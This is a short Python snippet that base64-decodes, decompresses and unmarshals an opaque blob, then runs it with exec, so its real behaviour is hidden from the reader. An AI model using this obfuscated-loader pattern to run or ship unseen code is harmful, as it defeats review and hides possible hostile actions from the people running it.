import marshal, zlib, base64
blob = "eJxLy8nPS8lPyknVUEosSsxRKMnIzFPISCxKBQBjjgiX"
code = marshal.loads(zlib.decompress(base64.b64decode(blob)))
exec(code)
